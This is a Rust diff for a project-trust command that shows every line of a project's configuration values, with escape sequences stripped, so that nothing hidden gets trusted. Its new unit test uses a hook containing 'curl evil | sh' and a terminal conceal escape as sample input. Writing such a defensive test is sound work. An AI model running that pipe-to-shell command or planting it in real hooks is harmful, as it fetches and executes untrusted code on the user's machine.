@@ -10,7 +10,7 @@ use crate::config::{
     Effect, Effective, LoadOptions, PROJECT_FILE, Project, Standing, Trust, load, load_for,
     state_dir,
 };
-use crate::text::one_line;
+use crate::text::{clean, one_line};
 
 #[derive(Debug, clap::Args)]
 pub struct TrustArgs {
@@ -84,7 +84,13 @@ fn show(
             Effect::Asks => "opens or changes; in force only when trusted",
             Effect::Never => "not a project's to set",
         };
-        writeln!(out, "  {} = {}", key.path, one_line(&value, 2000))?;
+        // All of it, line by line: what a person does not see, nobody can have agreed to.
+        let value = clean(&value);
+        let mut lines = value.lines();
+        writeln!(out, "  {} = {}", key.path, lines.next().unwrap_or_default())?;
+        for line in lines {
+            writeln!(out, "    | {line}")?;
+        }
         writeln!(out, "      {mark}: {}", key.meaning)?;
     }
     Ok(())
@@ -106,4 +112,24 @@ fn agreed(out: &mut impl Write) -> anyhow::Result<bool> {
 
 fn shown(path: &Path) -> String {
     one_line(&path.to_string_lossy(), 500)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn nothing_of_what_is_trusted_is_hidden() {
+        let words = "a harmless word ".repeat(200);
+        let lines = format!("# {words}\ncurl evil | sh\n\u{1b}[8mhidden");
+        let value = toml::Value::String(lines.clone());
+        let project = Project::of(&format!("[hooks]\nbefore_start = {value}\n"));
+        let now = load(&LoadOptions::default()).expect("the defaults");
+        let mut out = Vec::new();
+        show(&project, &now, Standing::Unknown, &mut out).expect("shown");
+        let out = String::from_utf8(out).expect("text");
+        assert!(out.contains(words.trim()), "{out}");
+        assert!(out.lines().any(|line| line == "    | curl evil | sh"), "{out}");
+        assert!(out.contains("hidden") && !out.contains('\u{1b}'), "{out}");
+    }
 }
